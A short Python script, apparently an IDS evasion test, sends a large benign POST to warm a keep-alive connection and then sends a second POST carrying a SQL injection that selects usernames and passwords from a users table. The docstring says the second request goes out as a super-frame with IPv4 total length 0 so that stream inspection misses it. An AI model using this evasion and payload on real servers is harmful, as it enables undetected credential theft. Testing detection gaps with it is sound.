#!/usr/bin/env python3
"""One keep-alive HTTP connection: a benign 700 KB POST first (within the stream depth of 1 MiB) (the congestion window grows, so a TSO /
BIG TCP sender hands the device super-frames), then a second POST whose head and body, with an SQL
injection in the first parameter, leave in ONE write: they go out in a super-frame whose IPv4 total
length is 0 when the GSO limit is past 64 KB.

Usage: warm_post.py HOST PORT     (prints the two status codes)
"""
import socket
import sys
import urllib.parse

host, port = sys.argv[1], int(sys.argv[2])


def read_response(f):
    status = f.readline().split()[1].decode()
    length = 0
    while True:
        line = f.readline()
        if line in (b"\r\n", b"\n", b""):
            break
        name, _, value = line.decode("latin1").partition(":")
        if name.strip().lower() == "content-length":
            length = int(value.strip())
    f.read(length)
    return status


def post(sock, path, body):
    head = (f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n").encode()
    sock.sendall(head + body)


s = socket.create_connection((host, port), timeout=20)
f = s.makefile("rb")
post(s, "/warmup", b"note=" + b"a" * 700_000)
first = read_response(f)
injection = urllib.parse.quote_plus("1' UNION SELECT username,password FROM users-- -").encode()
post(s, "/notes", b"id=" + injection + b"&note=" + b"b" * 400_000)
second = read_response(f)
s.close()
print(first, second)
